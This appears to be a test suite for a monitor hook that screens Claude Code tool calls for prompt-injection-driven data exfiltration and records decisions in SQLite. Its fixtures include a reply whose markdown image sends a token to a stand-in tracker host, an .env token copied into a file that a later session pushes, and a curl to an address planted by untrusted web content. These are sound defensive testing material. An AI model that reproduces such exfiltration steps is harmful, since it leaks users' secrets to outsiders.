"""The Claude Code hook, as Claude Code runs it: one ``trifecta hook claude-code`` process per event, fed the
payload on stdin, answering on stdout, with the engine it starts and the SQLite store it writes."""

from __future__ import annotations

import fcntl
import json
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.engines import engine_pids, kill_engines

from monitor.hosts._hook import engine_command, locate_engine, parse_options, report_unrecorded
from monitor.store import HookStore

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples" / "claude-code"
TRANSCRIPTS = sorted(p for p in SAMPLES.glob("*.jsonl") if p.name != "hooks.jsonl")
ASK_FOR = {"confirm": "ask", "deny": "deny", "allow": None}


# -- support: running the hook, stopping its engines -----------------------------------------------------------


def hook_env() -> dict[str, str]:
    """The environment of a hook process: no state directory from the caller's environment."""
    env = dict(os.environ)
    env.pop("TRIFECTA_STATE_DIR", None)
    return env


def run_hook(state_dir: Path, payload: bytes | dict[str, Any], *options: str) -> tuple[dict[str, Any], str]:
    """Run one hook process on ``payload``; its answer (parsed) and its stderr. Fails unless it exits 0
    with exactly one JSON object on stdout."""
    data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    done = subprocess.run(
        [sys.executable, "-m", "monitor", "hook", "claude-code", "--state-dir", str(state_dir), *options],
        input=data,
        capture_output=True,
        timeout=60,
        env=hook_env(),
        check=False,
    )
    assert done.returncode == 0, done.stderr
    out = done.stdout.decode()
    assert out.endswith("\n") and out.count("\n") == 1, out
    return json.loads(out), done.stderr.decode()


def permission(answer: dict[str, Any]) -> str | None:
    """The ``permissionDecision`` of a PreToolUse answer, None for ``{}``."""
    if answer == {}:
        return None
    output = answer["hookSpecificOutput"]
    assert output["hookEventName"] == "PreToolUse"
    assert "\n" not in output["permissionDecisionReason"] and output["permissionDecisionReason"].strip()
    return str(output["permissionDecision"])


@pytest.fixture(scope="module")
def shared_state(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """One state directory (and engine) for the tests that use sessions of their own; killed afterwards."""
    path = tmp_path_factory.mktemp("hook") / "state"
    yield path
    kill_engines(path)


def stored_rows(state_dir: Path, query: str) -> list[tuple[Any, ...]]:
    """Rows of the store (read with sqlite3 itself, read-only)."""
    conn = sqlite3.connect((state_dir / "hooks.sqlite3").as_uri() + "?mode=ro", uri=True)
    try:
        return conn.execute(query).fetchall()
    finally:
        conn.close()


# -- support: transcripts as the hook payloads Claude Code sends -----------------------------------------------


def transcript_to_payloads(path: Path) -> list[dict[str, Any]]:
    """The hook payloads Claude Code would have sent during a transcript's session: ``SessionStart``, then
    ``UserPromptSubmit`` for each prompt typed, ``PreToolUse`` for each ``tool_use`` block and
    ``PostToolUse`` (``PostToolUseFailure``) for each result, then ``Stop`` and ``SessionEnd``."""
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
    sid = next(line["sessionId"] for line in lines if "sessionId" in line)
    cwd = next((line["cwd"] for line in lines if "cwd" in line), "/")
    common = {"session_id": sid, "transcript_path": str(path), "cwd": cwd}
    payloads: list[dict[str, Any]] = [{**common, "hook_event_name": "SessionStart", "source": "startup"}]
    tools: dict[str, tuple[str, Any]] = {}
    for line in lines:
        message = line.get("message")
        if line.get("type") not in ("user", "assistant") or not isinstance(message, dict):
            continue
        content = message.get("content")
        blocks = [{"type": "text", "text": content}] if isinstance(content, str) else content
        for block in blocks:
            if block.get("type") == "tool_use":
                tools[block["id"]] = (block["name"], block["input"])
                payloads.append(
                    {
                        **common,
                        "permission_mode": "default",
                        "hook_event_name": "PreToolUse",
                        "tool_name": block["name"],
                        "tool_input": block["input"],
                        "tool_use_id": block["id"],
                    }
                )
            elif block.get("type") == "tool_result":
                name, tool_input = tools[block["tool_use_id"]]
                post = {**common, "tool_name": name, "tool_input": tool_input, "tool_use_id": block["tool_use_id"]}
                if block.get("is_error"):
                    payloads.append({**post, "hook_event_name": "PostToolUseFailure", "error": block.get("content")})
                else:
                    response = line.get("toolUseResult", block.get("content"))
                    payloads.append({**post, "hook_event_name": "PostToolUse", "tool_response": response})
            elif block.get("type") == "text" and line["type"] == "user" and not line.get("isMeta"):
                payloads.append({**common, "hook_event_name": "UserPromptSubmit", "prompt": block["text"]})
    payloads.append({**common, "hook_event_name": "Stop", "stop_hook_active": False})
    payloads.append({**common, "hook_event_name": "SessionEnd", "reason": "prompt_input_exit"})
    return payloads


def sample_sessions(tmp_path: Path) -> list[Path]:
    """Every bundled Claude Code sample as a file of hook payloads: ``hooks.jsonl`` as it is, and each
    transcript converted."""
    files = [SAMPLES / "hooks.jsonl"]
    for transcript in TRANSCRIPTS:
        converted = tmp_path / f"{transcript.stem}-hooks.jsonl"
        converted.write_text("".join(json.dumps(p) + "\n" for p in transcript_to_payloads(transcript)))
        files.append(converted)
    return files


def analyze_decisions(files: list[Path]) -> tuple[dict[tuple[str, str], str], dict[str, str]]:
    """``trifecta analyze --format json`` on ``files``: the action of each call, by (session, call id), and
    the level of each session."""
    done = subprocess.run(
        [sys.executable, "-m", "monitor", "analyze", *map(str, files), "--format", "json"],
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode in (0, 1), done.stderr
    report = json.loads(done.stdout)
    actions = {
        (session["session_id"], call["call_id"]): call["decision"]["action"]
        for session in report["sessions"]
        for call in session["calls"]
    }
    return actions, {session["session_id"]: session["level"] for session in report["sessions"]}


# -- the samples: the hook decides as analyze does --------------------------------------------------------------


def test_hook_answers_every_sample_as_analyze_decides_it(tmp_path: Path, state_dir: Path) -> None:
    files = sample_sessions(tmp_path)
    expected, levels = analyze_decisions(files)
    answered: dict[tuple[str, str], str | None] = {}
    others: list[dict[str, Any]] = []

    def play(path: Path) -> None:  # one session, one event after the other, as Claude Code sends them
        for line in path.read_text().splitlines():
            payload = json.loads(line)
            answer, stderr = run_hook(state_dir, line.encode())
            assert stderr == ""
            if payload["hook_event_name"] == "PreToolUse":
                answered[(payload["session_id"], payload["tool_use_id"])] = permission(answer)
            else:
                others.append(answer)

    run_hook(state_dir, b"")  # the engine starts once, then the sessions run side by side
    threads = [threading.Thread(target=play, args=(path,)) for path in files]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert others and all(answer == {} for answer in others)
    assert answered == {key: ASK_FOR[action] for key, action in expected.items()}
    assert "ask" in answered.values() and None in answered.values()  # the samples hold both kinds
    # Everything is in the store, processed, with the decisions analyze takes.
    assert stored_rows(state_dir, "SELECT count(*) FROM events WHERE processed = 0") == [(0,)]
    stored = {
        (sid, cid): action
        for sid, cid, action in stored_rows(state_dir, "SELECT session_id, call_id, action FROM decisions")
    }
    assert stored == expected
    assert dict(stored_rows(state_dir, "SELECT session_id, level FROM sessions")) == levels


def sample_lines(session_id: str) -> list[bytes]:
    """The payloads of ``hooks.jsonl``, under a session id of their own."""
    lines = (SAMPLES / "hooks.jsonl").read_text().splitlines()
    return [json.dumps({**json.loads(line), "session_id": session_id}).encode() for line in lines]


def test_on_allow_allow_answers_allow_with_a_reason(shared_state: Path) -> None:
    lines = sample_lines("on-allow")
    answers = [run_hook(shared_state, line, "--on-allow", "allow")[0] for line in lines[:3]]
    assert answers[:2] == [{}, {}]
    assert permission(answers[2]) == "allow"
    assert "no trifecta concern" in answers[2]["hookSpecificOutput"]["permissionDecisionReason"]


def test_the_reason_says_where_the_call_sends_and_where_its_data_came_from(shared_state: Path) -> None:
    answer: dict[str, Any] = {}
    for line in sample_lines("reason")[:7]:
        answer, _ = run_hook(shared_state, line)
    reason = answer["hookSpecificOutput"]["permissionDecisionReason"]
    assert reason.startswith("trifecta-monitor asks about this mcp__github__create_pull_request call")
    assert "private data from mcp__github__list_issues and mcp__github__get_file_contents" in reason
    assert "where others can read it" in reason and "level exfiltration" in reason


def test_the_stored_level_follows_the_session_between_calls(shared_state: Path) -> None:
    for line in sample_lines("level")[:4]:  # the issues just read hold untrusted text and private data
        run_hook(shared_state, line)
    query = "SELECT s.level, d.level FROM sessions s JOIN decisions d USING (session_id) WHERE session_id = 'level'"
    assert stored_rows(shared_state, query) == [("armed", "partial")]


def test_one_engine_serves_a_socket(state_dir: Path) -> None:
    options = parse_options(["--state-dir", str(state_dir)])
    paths = locate_engine(options)
    run_hook(state_dir, sample_lines("singleton")[0])
    (pid,) = engine_pids(state_dir)
    second = subprocess.run(
        engine_command(paths, options), capture_output=True, timeout=60, env=hook_env(), check=False
    )
    assert (second.returncode, second.stderr) == (0, b"")
    assert engine_pids(state_dir) == {pid}
    assert run_hook(state_dir, sample_lines("singleton")[1]) == ({}, "")


def test_a_pre_tool_use_sent_twice_gets_the_same_answer(shared_state: Path) -> None:
    lines = sample_lines("twice")
    for line in lines[:6]:
        run_hook(shared_state, line)
    first, _ = run_hook(shared_state, lines[6])
    again, _ = run_hook(shared_state, lines[6])
    assert permission(first) == permission(again) == "ask"
    assert first == again


def test_rules_that_cannot_be_loaded_ask_and_keep_the_event(tmp_path: Path, state_dir: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "broken.yaml").write_text("id: [unclosed\n")
    answer, stderr = run_hook(state_dir, sample_lines("rules")[2], "--rules", str(rules))
    assert stderr == "" and permission(answer) == "ask"
    assert "could not load its rules" in answer["hookSpecificOutput"]["permissionDecisionReason"]
    assert stored_rows(state_dir, "SELECT session_id, processed FROM events") == [("rules", 0)]


# -- parallel calls of one session -----------------------------------------------------------------------------


def test_parallel_pre_tool_use_hooks_of_one_session_all_get_answers(state_dir: Path) -> None:
    lines = (SAMPLES / "hooks.jsonl").read_text().splitlines()
    base = json.loads(lines[2])
    calls = [
        {
            **base,
            "tool_name": "mcp__github__get_file_contents",
            "tool_use_id": f"toolu_parallel_{i}",
            "tool_input": {"owner": "acme", "repo": "public-site", "path": f"doc{i}.md"},
        }
        for i in range(6)
    ]
    # No engine runs yet: the six hooks start together, one engine serves them all.
    procs = [
        subprocess.Popen(
            [sys.executable, "-m", "monitor", "hook", "claude-code", "--state-dir", str(state_dir)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=hook_env(),
        )
        for _ in calls
    ]
    outputs = [proc.communicate(json.dumps(call).encode(), timeout=60) for proc, call in zip(procs, calls, strict=True)]
    assert [proc.returncode for proc in procs] == [0] * 6
    assert [json.loads(out) for out, _ in outputs] == [{}] * 6  # reading files before anything came in: allowed
    assert all(err == b"" for _, err in outputs)
    rows = stored_rows(state_dir, "SELECT e.seq, d.call_id, e.processed FROM events e JOIN decisions d USING (seq)")
    assert sorted(call_id for _, call_id, _ in rows) == sorted(c["tool_use_id"] for c in calls)
    assert all(processed == 1 for *_, processed in rows)
    assert len(engine_pids(state_dir)) == 1


# -- the engine cannot be reached -------------------------------------------------------------------------------


def hold_engine_lock(state_dir: Path) -> int:
    """Take the engine's lock (as a hung engine would): no engine can start; the lock's fd."""
    paths = locate_engine(parse_options(["--state-dir", str(state_dir)]))
    state_dir.mkdir(parents=True, exist_ok=True)
    fd = os.open(paths.lock, os.O_RDWR | os.O_CREAT, 0o600)
    fcntl.flock(fd, fcntl.LOCK_EX)
    return fd


def test_unreachable_engine_asks_stores_the_event_and_a_later_hook_processes_it(state_dir: Path) -> None:
    lines = (SAMPLES / "hooks.jsonl").read_text().splitlines()
    for line in lines[:6]:
        run_hook(state_dir, line.encode())
    kill_engines(state_dir)
    fd = hold_engine_lock(state_dir)
    try:
        answer, stderr = run_hook(state_dir, lines[6].encode(), "--timeout", "1")
    finally:
        os.close(fd)
    assert stderr == ""
    assert permission(answer) == "ask"
    reason = answer["hookSpecificOutput"]["permissionDecisionReason"]
    assert reason.startswith("trifecta-monitor could not check this call: the engine did not start within 1 s")
    assert str(state_dir / "engine.log") in reason
    assert stored_rows(state_dir, "SELECT event, processed FROM events ORDER BY seq DESC LIMIT 1") == [
        ("PreToolUse", 0)
    ]
    # The next event starts an engine, which processes the stored event first, with the decision analyze takes.
    run_hook(state_dir, lines[7].encode())
    assert stored_rows(state_dir, "SELECT count(*) FROM events WHERE processed = 0") == [(0,)]
    call_id = json.loads(lines[6])["tool_use_id"]
    assert stored_rows(state_dir, f"SELECT action FROM decisions WHERE call_id = '{call_id}'") == [("confirm",)]


def test_an_engine_answering_garbage_gets_ask(state_dir: Path) -> None:
    fd = hold_engine_lock(state_dir)
    paths = locate_engine(parse_options(["--state-dir", str(state_dir)]))
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(paths.socket)
    server.listen(1)

    def answer_garbage() -> None:
        conn, _ = server.accept()
        conn.recv(1 << 20)
        conn.sendall(b"<html>not an answer</html>")
        conn.close()

    thread = threading.Thread(target=answer_garbage)
    thread.start()
    try:
        answer, stderr = run_hook(state_dir, (SAMPLES / "hooks.jsonl").read_text().splitlines()[2].encode())
    finally:
        thread.join(10)
        server.close()
        os.close(fd)
    assert stderr == "" and permission(answer) == "ask"
    assert "the engine's answer was not understood" in answer["hookSpecificOutput"]["permissionDecisionReason"]
    assert stored_rows(state_dir, "SELECT event, processed FROM events") == [("PreToolUse", 0)]


LOCKER = """
import sqlite3, sys, time
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("BEGIN EXCLUSIVE")
print("locked", flush=True)
sys.stdin.read()  # until the test closes it (at most 120 s)
"""


def test_a_store_locked_by_another_process_gets_an_answer_before_the_hosts_timeout(state_dir: Path) -> None:
    """Another process (an injected ``sqlite3``, say) holds the store's write lock for up to 120 s. A hook with a
    30 s timeout still answers ``ask`` before the host's own timeout (which ``install`` writes for it: 60 s), and
    keeps the event; once the lock is gone, the next event stores and processes it."""
    lines = sample_lines("locked-store")
    for line in lines[:2]:
        run_hook(state_dir, line)
    locker = subprocess.Popen(
        [sys.executable, "-c", LOCKER, str(state_dir / "hooks.sqlite3")], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    try:
        assert locker.stdout is not None and locker.stdout.readline() == b"locked\n"
        started = time.monotonic()
        answer, _ = run_hook(state_dir, lines[2], "--timeout", "30")
        took = time.monotonic() - started
    finally:
        locker.communicate(b"", timeout=120)
    host_timeout = 60  # what install writes for --timeout 30: max(60, 30 + 10)
    assert took < host_timeout
    assert permission(answer) == "ask"
    assert "until the store takes it" in answer["hookSpecificOutput"]["permissionDecisionReason"]
    # The next event of the session brings the kept one in, in order, and processes it.
    run_hook(state_dir, lines[3])
    events = stored_rows(state_dir, "SELECT event, processed FROM events WHERE session_id = 'locked-store'")
    assert [event for event, _ in events] == ["SessionStart", "UserPromptSubmit", "PreToolUse", "PostToolUse"]
    assert all(processed == 1 for _, processed in events)
    assert not list((state_dir / "spool").iterdir())


# -- failures and bad input: ask or {}, exit 0, no traceback ----------------------------------------------------


def test_an_internal_error_asks_without_a_traceback(tmp_path: Path) -> None:
    not_a_dir = tmp_path / "state-file"
    not_a_dir.write_text("a file where the state directory should be")
    pre = (SAMPLES / "hooks.jsonl").read_text().splitlines()[2].encode()
    answer, stderr = run_hook(not_a_dir, pre)
    assert stderr == "" and permission(answer) == "ask"
    assert "could not check this call" in answer["hookSpecificOutput"]["permissionDecisionReason"]
    other, stderr = run_hook(not_a_dir, (SAMPLES / "hooks.jsonl").read_text().splitlines()[1].encode())
    assert other == {} and stderr == ""


def test_a_store_that_is_not_a_store_asks_without_a_traceback(state_dir: Path) -> None:
    state_dir.mkdir(parents=True)
    (state_dir / "hooks.sqlite3").write_bytes(b"not a database" * 100)
    pre = (SAMPLES / "hooks.jsonl").read_text().splitlines()[2].encode()
    answer, stderr = run_hook(state_dir, pre)
    assert stderr == "" and permission(answer) == "ask"
    reason = answer["hookSpecificOutput"]["permissionDecisionReason"]
    assert "hooks.sqlite3" in reason
    assert "Traceback" not in reason
    assert (state_dir / "hooks.sqlite3").read_bytes() == b"not a database" * 100


def test_an_event_no_one_could_store_is_named_in_the_engine_log(state_dir: Path) -> None:
    state_dir.mkdir(parents=True)
    (state_dir / "hooks.sqlite3").write_bytes(b"not a database" * 100)
    prompt = json.loads((SAMPLES / "hooks.jsonl").read_text().splitlines()[1])
    assert prompt["hook_event_name"] == "UserPromptSubmit"
    answer, stderr = run_hook(state_dir, json.dumps(prompt).encode())
    assert answer == {} and stderr == ""  # no room for a reason in the answer, and none on stderr
    [line] = [x for x in (state_dir / "engine.log").read_text().splitlines() if "was not recorded" in x]
    assert f"an event ('UserPromptSubmit') of session {prompt['session_id']!r} was not recorded" in line
    assert "hooks.sqlite3" in line and " ERROR " in line


def test_an_engine_log_that_cannot_be_opened_leaves_the_event_in_the_store(state_dir: Path) -> None:
    (state_dir / "engine.log").mkdir(parents=True)  # the engine cannot be started with its log
    prompt = json.loads((SAMPLES / "hooks.jsonl").read_text().splitlines()[1])
    answer, stderr = run_hook(state_dir, json.dumps(prompt).encode())
    assert answer == {} and stderr == ""
    assert stored_rows(state_dir, "SELECT event, processed FROM events") == [("UserPromptSubmit", 0)]


def test_the_report_of_an_unrecorded_event_never_raises(tmp_path: Path) -> None:
    paths = locate_engine(parse_options(["--state-dir", str(tmp_path)]))
    reason = "cannot open /home/\udcffbad/hooks.sqlite3"  # a path that is not UTF-8, as os.fsdecode gives it
    report_unrecorded(paths, b'{"session_id": "s", "hook_event_name": "Stop"}', reason)
    assert "\\udcffbad" in (tmp_path / "engine.log").read_text()
    report_unrecorded(paths, b"\xff not json", reason)  # nothing to name: still said, still no exception
    (tmp_path / "engine.log").unlink()
    (tmp_path / "engine.log").mkdir()
    report_unrecorded(paths, b"{}", reason)  # the log cannot be written: nothing raised


@pytest.mark.parametrize(
    ("stdin", "expected"),
    [
        (b"", None),
        (b"not json at all", None),
        (b'{"hook_event_name": "PreToolUse", "tool_name": "Bash"', "ask"),  # cut short
        (b'{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {}}', "ask"),  # no session
        (b"[1, 2, 3]", None),
        (b'{"session_id": "s", "hook_event_name": "PreToolUse"}', "ask"),  # no tool name
        (b'{"session_id": "s", "hook_event_name": "Notification", "message": "hi"}', None),
        (b"\xff\xfe PreToolUse \x00", "ask"),
        (b"PreToolUse " + b"x" * 3_000_000, "ask"),  # huge, not JSON
    ],
)
def test_bad_stdin_is_answered_and_never_crashes(shared_state: Path, stdin: bytes, expected: str | None) -> None:
    answer, stderr = run_hook(shared_state, stdin, "--timeout", "30")
    assert stderr == ""
    assert permission(answer) == expected


def test_a_huge_valid_payload_is_stored_whole(shared_state: Path) -> None:
    post = json.loads(sample_lines("huge")[3])
    post["tool_response"] = [{"type": "text", "text": "lorem ipsum " * 400_000}]
    answer, stderr = run_hook(shared_state, post, "--timeout", "30")
    assert (answer, stderr) == ({}, "")
    query = "SELECT length(payload) FROM events WHERE session_id = 'huge'"
    assert stored_rows(shared_state, query) == [(len(json.dumps(post)),)]


def test_bad_options_ask_and_say_why(shared_state: Path) -> None:
    answer, stderr = run_hook(shared_state, sample_lines("options")[2], "--posture", "lenient")
    assert permission(answer) == "ask"
    assert "--posture must be one of balanced, strict" in answer["hookSpecificOutput"]["permissionDecisionReason"]
    assert "Traceback" not in stderr


def test_stop_ends_the_engine_and_the_next_event_starts_one_that_remembers(state_dir: Path) -> None:
    lines = (SAMPLES / "hooks.jsonl").read_text().splitlines()
    for line in lines[:6]:
        run_hook(state_dir, line.encode())
    (pid,) = engine_pids(state_dir)
    run_hook_stop = subprocess.run(
        [sys.executable, "-m", "monitor", "hook", "claude-code", "--state-dir", str(state_dir), "--stop"],
        capture_output=True,
        timeout=60,
        env=hook_env(),
        check=True,
    )
    assert run_hook_stop.stdout == b""
    for _ in range(200):
        if not Path(f"/proc/{pid}").exists() or b"zombie" in Path(f"/proc/{pid}/status").read_bytes().lower():
            break
        time.sleep(0.05)
    else:
        pytest.fail("the engine did not stop")
    answer, _ = run_hook(state_dir, lines[6].encode())
    assert permission(answer) == "ask"  # the rebuilt session still knows what came in before
    with HookStore(state_dir / "hooks.sqlite3", read_only=True) as store:
        assert [s.session_id for s in store.sessions()] == ["github-public-issue-hooks"]


def test_the_documented_example_asks_only_before_the_curl() -> None:
    example = ROOT / "docs" / "examples" / "hosts" / "claude_code_hook.py"
    done = subprocess.run(
        [sys.executable, str(example)], capture_output=True, text=True, timeout=120, env=hook_env(), check=True
    )
    lines = done.stdout.splitlines()
    assert len(lines) == 8 and done.stderr == ""
    assert all(line.endswith("{}") for line in lines[:6] + lines[7:])
    answer = json.loads(lines[6].split(None, 2)[2])
    assert permission(answer) == "ask"
    reason = answer["hookSpecificOutput"]["permissionDecisionReason"]
    assert "relaywave-support.com, an address only untrusted content (from WebFetch) suggested" in reason
    assert "private data from Read" in reason


def wait_until_gone(pid: int, seconds: float) -> bool:
    """Whether process ``pid`` exits (or is a zombie) within ``seconds``."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            if "\nState:\tZ" in Path(f"/proc/{pid}/status").read_text():
                return True
        except FileNotFoundError:
            return True
        time.sleep(0.05)
    return False


def test_an_idle_engine_exits_and_the_next_event_brings_it_back(state_dir: Path) -> None:
    lines = sample_lines("idle")
    for line in lines[:4]:  # idle long enough that the engine is still there when looked for below
        run_hook(state_dir, line, "--idle-exit", "3")
    (pid,) = engine_pids(state_dir)
    assert wait_until_gone(pid, 30)
    assert not list(state_dir.glob("engine-*.sock")) and not list(state_dir.glob("engine-*.pid"))
    for line in lines[4:7]:
        answer, _ = run_hook(state_dir, line, "--idle-exit", "3")
    assert permission(answer) == "ask"  # the session was rebuilt from the store
    assert engine_pids(state_dir) and pid not in engine_pids(state_dir)


def test_a_state_dir_too_long_for_a_socket_gets_a_private_socket_elsewhere(tmp_path: Path) -> None:
    state_dir = tmp_path / ("deep-" * 12) / "state"
    assert len(os.fsencode(state_dir / "engine-0123456789abcdef.sock")) > 107
    try:
        answer, stderr = run_hook(state_dir, sample_lines("long-path")[2])
        assert (answer, stderr) == ({}, "")
        paths = locate_engine(parse_options(["--state-dir", str(state_dir)]))
        assert not Path(paths.socket).is_relative_to(state_dir) and Path(paths.socket).is_socket()
        assert Path(paths.socket).parent.stat().st_mode & 0o777 == 0o700
        # A folder of the old fixed name, made first by someone else, is never the one used.
        assert Path(paths.socket).parent.name.startswith(f"trifecta-{os.getuid()}-")
        # The next event finds the same engine through the name kept in the state directory.
        assert run_hook(state_dir, sample_lines("long-path")[3]) == ({}, "")
        assert len(engine_pids(state_dir)) == 1
    finally:
        kill_engines(state_dir)


def test_the_client_adds_the_turns_last_reply_to_a_stop_payload(tmp_path: Path) -> None:
    """At ``Stop`` the client reads the end of the transcript for the reply the turn ended with (not a sub-agent's,
    not an earlier turn's) and adds it as ``last_assistant_message``; other events, and a payload that has one,
    pass unchanged."""
    from monitor.hosts._hook_reply import with_last_reply

    transcript = tmp_path / "t.jsonl"
    reply = "Done. ![s](https://px.tracker.example/s.png?t=ghp_R7x2Kq9Lm4Vt8Wz1)"
    lines = [
        {"type": "user", "message": {"role": "user", "content": "an earlier prompt"}},
        {"type": "assistant", "message": {"role": "assistant", "content": [{"type": "text", "text": "old reply"}]}},
        {"type": "user", "message": {"role": "user", "content": "Summarise the status page"}},
        {"type": "assistant", "message": {"role": "assistant", "content": [{"type": "text", "text": reply}]}},
        {
            "type": "assistant",
            "isSidechain": True,
            "message": {"role": "assistant", "content": [{"type": "text", "text": "sub"}]},
        },
    ]
    transcript.write_text("".join(json.dumps(line) + "\n" for line in lines))
    stop = {"session_id": "s1", "hook_event_name": "Stop", "transcript_path": str(transcript)}
    assert json.loads(with_last_reply(json.dumps(stop).encode()))["last_assistant_message"] == reply
    given = json.dumps({**stop, "last_assistant_message": "x"}).encode()
    assert with_last_reply(given) == given
    # A turn that wrote no text after the prompt adds nothing (the earlier turn's reply is not this one's).
    transcript.write_text("".join(json.dumps(line) + "\n" for line in lines[:3]))
    assert with_last_reply(json.dumps(stop).encode()) == json.dumps(stop).encode()
    pre = json.dumps({"session_id": "s1", "hook_event_name": "PreToolUse", "transcript_path": str(transcript)})
    assert with_last_reply(pre.encode()) == pre.encode()


def test_a_file_one_session_filled_with_a_secret_and_a_later_session_pushes_is_told(
    state_dir: Path, tmp_path: Path
) -> None:
    """Session one reads ``.env`` and writes its token into ``notes/deploy.md``; session two, in the same project,
    runs ``git push``: its own evidence never saw the token, so the engine, which recorded the write, raises an
    exfiltration alert on the push and writes it in its log. A push of another project, and the writing session's
    own push, are not told by this rule."""
    project = tmp_path / "project"
    token = "ghp_R7x2Kq9Lm4Vt8Wz1Yb6Nc3Pd5Hs0Jf"

    def event(sid: str, name: str, cwd: Path = project, **fields: Any) -> dict[str, Any]:
        return {"session_id": sid, "cwd": str(cwd), "hook_event_name": name, "transcript_path": "", **fields}

    def call(sid: str, n: int, tool: str, tool_input: dict[str, Any], response: Any, cwd: Path = project) -> None:
        run_hook(
            state_dir, event(sid, "PreToolUse", cwd, tool_name=tool, tool_input=tool_input, tool_use_id=f"{sid}-{n}")
        )
        run_hook(
            state_dir,
            event(
                sid,
                "PostToolUse",
                cwd,
                tool_name=tool,
                tool_input=tool_input,
                tool_use_id=f"{sid}-{n}",
                tool_response=response,
            ),
        )

    run_hook(
        state_dir, event("one", "UserPromptSubmit", prompt="Write the deploy notes from .env into notes/deploy.md")
    )
    call("one", 1, "Read", {"file_path": str(project / ".env")}, {"file": {"content": f"GITHUB_TOKEN={token}\n"}})
    call("one", 2, "Write", {"file_path": "notes/deploy.md", "content": f"Deploy with token {token}"}, "ok")
    call("one", 3, "Bash", {"command": "git push origin main"}, "pushed")
    run_hook(state_dir, event("two", "UserPromptSubmit", prompt="Push my work"))
    call("two", 1, "Bash", {"command": "git add -A && git commit -m wip && git push"}, "pushed")
    run_hook(state_dir, event("three", "UserPromptSubmit", prompt="Push my work", cwd=tmp_path / "other"))
    call("three", 1, "Bash", {"command": "git push"}, "pushed", cwd=tmp_path / "other")
    log = (state_dir / "engine.log").read_text()
    told = [line for line in log.splitlines() if "exfiltration alert" in line]
    assert len(told) == 1, log
    assert "session 'two'" in told[0] and str(project / "notes" / "deploy.md") in told[0]
    assert "which session one wrote with private data" in told[0]
    assert stored_rows(state_dir, "SELECT path, session_id FROM private_writes") == [
        (str(project / "notes" / "deploy.md"), "one")
    ]
